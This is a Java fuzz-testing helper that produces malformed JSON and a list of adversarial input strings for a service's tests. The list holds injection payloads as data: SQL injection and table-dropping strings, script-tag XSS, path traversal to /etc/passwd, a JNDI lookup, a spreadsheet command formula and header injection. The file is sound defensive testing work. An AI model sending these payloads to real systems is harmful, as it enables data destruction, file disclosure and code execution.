package id.selaras.service;

import java.util.List;
import java.util.Random;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Values nobody should send and somebody will; the same for the same seed. */
final class HostileValues {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final List<String> TEXTS = List.of("", " ", "null", "undefined", "true", "-1", "0", "1e309", "NaN", "99999999999999999999",
            "2147483648", "-9223372036854775808", "0x1F", "1,5", "２０２６", "2026-02-30", "2026-13-01T25:61:61Z", "+999999999-12-31",
            "' or 1=1 --", "'; drop table plan; --", "\" or \"\"=\"", "%' or '1'='1", "1) union select hash from journal --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "../../../etc/passwd", "..\\..\\windows\\win.ini",
            "/etc/passwd", "C:\\con", "file:///etc/passwd", "${jndi:ldap://x.invalid/a}", "{{7*7}}", "=cmd|' /C calc'!A0", "@SUM(A1)",
            "\u0000", "a\u0000b", "\r\nSet-Cookie: a=b", "\u202Egpj.exe", "\uFEFFx", "\uD800", "𝒮𝑒𝓁𝒶𝓇𝒶𝓈", "é́́́́́́", "I\u0307i\u0131", "ß", "👩‍👩‍👧‍👦", "\t\n\u000B",
            "-rupiah", "rupiah;drop", "rupiah desc", "RENJA", "renja", "BLOK,INFO", "BLOK;INFO", "AGENCY", "__proto__", "constructor",
            "%00", "%2e%2e%2f", "%", "&", "=", "#", "?", "*", "_", "\\", "[]", "{}", ".", "..", "~", "|", "^", "`");

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    String text() {
        return switch (random.nextInt(12)) {
            case 0 -> "a".repeat(1 + random.nextInt(5_000));
            case 1 -> "é".repeat(1 + random.nextInt(700));
            case 2 -> noise(1 + random.nextInt(60));
            case 3 -> String.valueOf(random.nextLong());
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    byte[] bytes(int most) {
        byte[] bytes = new byte[random.nextInt(most)];
        random.nextBytes(bytes);
        return bytes;
    }

    /** A good body made bad somewhere, as text that may not even be JSON any more. */
    String json(String good) {
        return switch (random.nextInt(9)) {
            case 0 -> good.isEmpty() ? "{" : good.substring(0, random.nextInt(good.length()));
            case 1 -> "[".repeat(1 + random.nextInt(3_000));
            case 2 -> "{\"a\":".repeat(1 + random.nextInt(1_500)) + "1";
            case 3 -> List.of("null", "[]", "{}", "\"x\"", "1", "true", "[null]", "{\"\":null}", "[[{}]]", "").get(random.nextInt(10));
            case 4 -> good + good;
            case 5 -> flipped(good);
            default -> changed(good);
        };
    }

    private String changed(String good) {
        JsonNode node = JSON.readTree(good.isEmpty() ? "{}" : good);
        for (int times = 1 + random.nextInt(3); times > 0; times--) {
            change(node);
        }
        return node.toString();
    }

    private void change(JsonNode node) {
        if (node instanceof ObjectNode object && !object.isEmpty() && random.nextInt(10) > 0) {
            List<String> names = List.copyOf(object.propertyNames());
            String name = names.get(random.nextInt(names.size()));
            if (object.get(name).isContainer() && random.nextInt(3) > 0) {
                change(object.get(name));
            } else if (random.nextInt(6) == 0) {
                object.remove(name);
            } else {
                object.set(name, any(2));
            }
        } else if (node instanceof ObjectNode object) {
            object.set(text(), any(2));
        } else if (node instanceof ArrayNode array && !array.isEmpty()) {
            change(array.get(random.nextInt(array.size())));
            for (int more = random.nextInt(20) == 0 ? 1_200 : random.nextInt(3); more > 0; more--) {
                array.add(any(1));
            }
        }
    }

    private JsonNode any(int depth) {
        return switch (random.nextInt(depth > 0 ? 9 : 7)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.getNodeFactory().booleanNode(random.nextBoolean());
            case 2 -> JSON.getNodeFactory().numberNode(random.nextLong());
            case 3 -> JSON.getNodeFactory().numberNode(random.nextGaussian() * 1e30);
            case 7 -> JSON.createArrayNode().add(any(depth - 1)).add(any(depth - 1));
            case 8 -> JSON.createObjectNode().set(text(), any(depth - 1));
            default -> JSON.getNodeFactory().stringNode(text());
        };
    }

    private String flipped(String good) {
        StringBuilder text = new StringBuilder(good);
        for (int times = 1 + random.nextInt(4); times > 0 && !text.isEmpty(); times--) {
            text.setCharAt(random.nextInt(text.length()), (char) (random.nextInt(95) + 32));
        }
        return text.toString();
    }

    private String noise(int length) {
        StringBuilder text = new StringBuilder();
        for (int at = 0; at < length; at++) {
            text.append((char) random.nextInt(0xD7FF));
        }
        return text.toString();
    }
}
